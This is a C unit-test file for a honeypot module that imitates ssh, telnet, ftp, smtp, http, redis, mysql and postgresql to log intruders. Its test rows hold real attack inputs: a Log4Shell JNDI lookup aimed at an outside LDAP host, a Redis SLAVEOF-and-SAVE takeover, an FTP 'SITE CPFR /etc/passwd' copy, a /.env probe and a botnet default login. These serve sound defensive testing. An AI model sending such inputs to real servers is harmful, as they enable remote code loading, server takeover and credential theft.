/* SPDX-License-Identifier: GPL-2.0-or-later */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include "agent/uplink/decoy_talk.h"

#include <stdio.h>
#include <string.h>

static struct decoy_talk talk;
static struct ds_buf out;

static void
begin(const char *name)
{
	const struct decoy_service *s = decoy_service_find(name, strlen(name));

	assert_non_null(s);
	decoy_talk_done(&talk);
	ds_buf_done(&out);
	ds_buf_init(&out, 4096);
	assert_int_equal(decoy_talk_begin(&talk, s, &out), 0);
}

static void
say_bytes(const void *data, size_t len)
{
	assert_int_equal(decoy_talk_take(&talk, data, len, &out), 0);
}

static void
say(const char *text)
{
	say_bytes(text, strlen(text));
}

static bool
answered(const char *text)
{
	return out.len > 0 && memmem(out.data, out.len, text, strlen(text)) != NULL;
}

static void
who_comes_shows_whom_he_wants_to_be(void **state)
{
	static const struct {
		const char *service, *says, *user, *said, *answer;
	} rows[] = {
		{ "ssh", "SSH-2.0-Go\r\n", "", "SSH-2.0-Go", "SSH-2.0-" },
		{ "telnet", "\xff\xfb\x01root\r\nxc3511\r\n", "root", "a password", "incorrect" },
		{ "ftp", "USER anna\r\nPASS secret\r\n", "anna", "a password", "530 " },
		{ "ftp", "SITE CPFR /etc/passwd\r\n", "", "SITE CPFR /etc/passwd", "530 " },
		{ "smtp", "EHLO x\r\nAUTH PLAIN c2VjcmV0\r\n", "", "a password", "535 " },
		{ "http", "GET /.env HTTP/1.1\r\nHost: x\r\n\r\n", "", "GET /.env HTTP/1.1",
		    "401" },
		{ "http",
		    "GET /x HTTP/1.1\r\nHost: x\r\nUser-Agent: ${jndi:ldap://198.51.100.2/a}\r\n\r\n",
		    "", "GET /x HTTP/1.1 ; User-Agent: ${jndi:ldap://198.51.100.2/a}", "401" },
		{ "redis", "*1\r\n$4\r\nINFO\r\n", "", "INFO", "-NOAUTH" },
		{ "redis", "*2\r\n$7\r\nSLAVEOF\r\n$11\r\n203.0.113.7\r\n*1\r\n$4\r\nSAVE\r\n", "",
		    "SLAVEOF 203.0.113.7 ; SAVE", "-NOAUTH" },
		{ "redis",
		    "*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$11\r\nrequirepass\r\n$6\r\nsecret\r\n", "",
		    "AUTH a password", "-WRONGPASS" },
		{ "redis", "  info   all\r\n", "", "info all", "-NOAUTH" },
		{ "redis", "AUTH secret\r\n", "", "AUTH a password", "-WRONGPASS" },
	};

	(void)state;
	for (size_t i = 0; i < DS_LEN(rows); i++) {
		begin(rows[i].service);
		say(rows[i].says);
		assert_string_equal(talk.user, rows[i].user);
		assert_string_equal(talk.said, rows[i].said);
		assert_true(answered(rows[i].answer));
		assert_false(answered("secret"));
	}
}

static void
what_is_no_redis_is_heard_once_the_room_is_full(void **state)
{
	char text[DECOY_IN_MAX];

	(void)state;
	begin("redis");
	say("*2\r\n$3\r\nGET\r\n$99");
	assert_string_equal(talk.said, "");
	memset(text, '*', sizeof(text));
	begin("redis");
	say_bytes(text, sizeof(text));
	assert_int_equal(strlen(talk.said), DECOY_TEXT_MAX);
	begin("redis");
	for (unsigned i = 0; i < 40 && !talk.is_over; i++)
		say("PING\r\nPING\r\n");
	assert_true(talk.is_over);
}

static void
packets_of_databases_name_their_user(void **state)
{
	static const char startup[] = "\0\0\0\x1b\0\3\0\0user\0mallory\0db\0x\0\0";
	uint8_t login[60] = { 56, 0, 0, 1 }, salt[12];

	(void)state;
	begin("postgresql");
	say_bytes("\0\0\0\x08\x04\xd2\x16\x2f", 8); /* may it encrypt? */
	assert_true(answered("N"));
	say_bytes(startup, sizeof(startup) - 1);
	assert_string_equal(talk.user, "mallory");
	assert_true(answered("password authentication failed for user \"mallory\""));
	assert_true(answered("28P01"));
	assert_true(talk.is_over);

	begin("mysql");
	assert_true(answered("mysql_native_password"));
	assert_int_equal(out.data[0] + 4u, out.len);
	/* What scanners print of it is none of ours, and not the same twice. */
	assert_null(memmem(out.data, out.len, "decoy", 5));
	assert_int_equal(strlen((const char *)out.data + 16), 8);
	assert_int_equal(strlen((const char *)out.data + 43), 12);
	memcpy(salt, out.data + 12, sizeof(salt));
	begin("mysql");
	assert_memory_not_equal(salt, out.data + 12, 4);
	assert_memory_not_equal(salt + 4, out.data + 16, 8);
	memcpy(login + 36, "root", 5);
	say_bytes(login, 20);
	assert_false(talk.has_news);
	say_bytes(login + 20, sizeof(login) - 20);
	assert_string_equal(talk.user, "root");
	assert_true(answered("Access denied"));
}

static void
what_a_stranger_says_is_kept_printable_bounded_and_not_for_long(void **state)
{
	char line[5000];

	(void)state;
	begin("ftp");
	say("\x1b[2J\x01<b>\xc3\xa9\r\n");
	assert_string_equal(talk.said, ".[2J.<b>..");
	decoy_talk_told(&talk);
	assert_false(talk.has_news);
	for (int i = 0; i < 20; i++)
		say("NOOP\r\n");
	assert_true(talk.is_over);
	assert_int_equal(talk.turns, DECOY_TURNS);

	memset(line, 'A', sizeof(line));
	begin("http");
	say_bytes(line, sizeof(line)); /* no end of line in sight */
	assert_true(talk.is_over);
	assert_int_equal(strlen(talk.said), DECOY_TEXT_MAX);
	begin("postgresql");
	say_bytes(line, sizeof(line));
	assert_true(talk.is_over);
}

/* ---- ssh, whose other half a real client speaks in tests/system/login_alerts.py */

static void
add_text(struct ds_buf *b, const char *text)
{
	assert_int_equal(ds_buf_put_u32(b, (uint32_t)strlen(text)), 0);
	assert_int_equal(ds_buf_put(b, text, strlen(text)), 0);
}

static void
say_packet(const struct ds_buf *payload)
{
	static const uint8_t zeros[16];
	size_t pad = 8 - (5 + payload->len) % 8 + 8;
	struct ds_buf b;

	ds_buf_init(&b, 4096);
	assert_int_equal(ds_buf_put_u32(&b, (uint32_t)(1 + payload->len + pad)), 0);
	assert_int_equal(ds_buf_put_u8(&b, (uint8_t)pad), 0);
	assert_int_equal(ds_buf_put(&b, payload->data, payload->len), 0);
	assert_int_equal(ds_buf_put(&b, zeros, pad), 0);
	say_bytes(b.data, b.len);
	ds_buf_done(&b);
}

/* A client's proposals: with this way of agreeing on keys, and whether it guesses that. */
static void
propose(const char *way, uint8_t guesses)
{
	const char *const lists[] = { way, "ssh-rsa,ssh-ed25519", "aes256-ctr,aes128-ctr",
		"aes128-ctr", "hmac-sha2-256", "hmac-sha2-256", "zlib,none", "none", "", "" };
	static const uint8_t cookie[17] = { 20 };
	struct ds_buf b;

	begin("ssh");
	say("SSH-2.0-test\r\n");
	ds_buf_init(&b, 1024);
	assert_int_equal(ds_buf_put(&b, cookie, sizeof(cookie)), 0);
	for (size_t i = 0; i < DS_LEN(lists); i++)
		add_text(&b, lists[i]);
	assert_int_equal(ds_buf_put_u8(&b, guesses), 0);
	assert_int_equal(ds_buf_put_u32(&b, 0), 0);
	say_packet(&b);
	ds_buf_done(&b);
}

static void
give_half(uint8_t first)
{
	const uint8_t half[32] = { first };
	struct ds_buf b;

	ds_buf_init(&b, 64);
	assert_int_equal(ds_buf_put_u8(&b, 30), 0);
	assert_int_equal(ds_buf_put_u32(&b, sizeof(half)), 0);
	assert_int_equal(ds_buf_put(&b, half, sizeof(half)), 0);
	say_packet(&b);
	ds_buf_done(&b);
}

static void
an_ssh_client_is_answered_until_keys_are_agreed_on(void **state)
{
	size_t len;

	(void)state;
	propose("curve25519-sha256", 0);
	assert_true(answered("hmac-sha2-256"));
	assert_false(talk.is_over);
	give_half(9);
	assert_false(talk.is_over);
	assert_true(answered("ssh-ed25519"));
	/* What it guessed wrongly does not count. */
	propose("ecdh-sha2-nistp256,curve25519-sha256", 1);
	len = out.len;
	give_half(9);
	assert_int_equal(out.len, len);
	give_half(9);
	assert_true(out.len > len && !talk.is_over);
}

static void
what_does_not_keep_to_ssh_ends_the_visit(void **state)
{
	static const uint8_t huge[] = { 0xff, 0xff, 0xff, 0xff, 4, 20, 0, 0 };
	static const uint8_t tiny[] = { 0, 0, 0, 4, 4, 20, 0, 0 };
	char line[400];

	(void)state;
	begin("ssh");
	say("GET / HTTP/1.1\r\n");
	assert_true(talk.is_over);
	assert_string_equal(talk.said, "GET / HTTP/1.1");
	memset(line, 'A', sizeof(line));
	begin("ssh");
	say_bytes(line, sizeof(line));
	assert_true(talk.is_over);
	begin("ssh");
	say("SSH-2.0-x\r\n");
	say_bytes(huge, sizeof(huge));
	assert_true(talk.is_over);
	begin("ssh");
	say("SSH-2.0-x\r\n");
	say_bytes(tiny, sizeof(tiny));
	assert_true(talk.is_over);
	propose("diffie-hellman-group1-sha1", 0);
	assert_true(talk.is_over);
	propose("curve25519-sha256", 0);
	give_half(0); /* a point that makes every secret zero */
	assert_true(talk.is_over);
}

static void
a_line_that_comes_byte_by_byte_is_one_line(void **state)
{
	static const char text[] = "USER bob\r\n";

	(void)state;
	begin("ftp");
	for (size_t i = 0; i + 1 < sizeof(text); i++) {
		assert_false(talk.has_news);
		say_bytes(text + i, 1);
	}
	assert_string_equal(talk.user, "bob");
}

static void
services_have_names_and_ports(void **state)
{
	char names[120];

	(void)state;
	decoy_service_names(names, sizeof(names));
	assert_string_equal(names, "ssh, telnet, ftp, smtp, http, redis, mysql, postgresql");
	assert_null(decoy_service_find("gopher", 6));
	assert_int_equal(decoy_service_port(decoy_service_find("redis", 5)), 6379);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(who_comes_shows_whom_he_wants_to_be),
		cmocka_unit_test(what_is_no_redis_is_heard_once_the_room_is_full),
		cmocka_unit_test(packets_of_databases_name_their_user),
		cmocka_unit_test(what_a_stranger_says_is_kept_printable_bounded_and_not_for_long),
		cmocka_unit_test(an_ssh_client_is_answered_until_keys_are_agreed_on),
		cmocka_unit_test(what_does_not_keep_to_ssh_ends_the_visit),
		cmocka_unit_test(a_line_that_comes_byte_by_byte_is_one_line),
		cmocka_unit_test(services_have_names_and_ports),
	};
	int failed = cmocka_run_group_tests(tests, NULL, NULL);

	decoy_talk_done(&talk);
	ds_buf_done(&out);
	return failed;
}
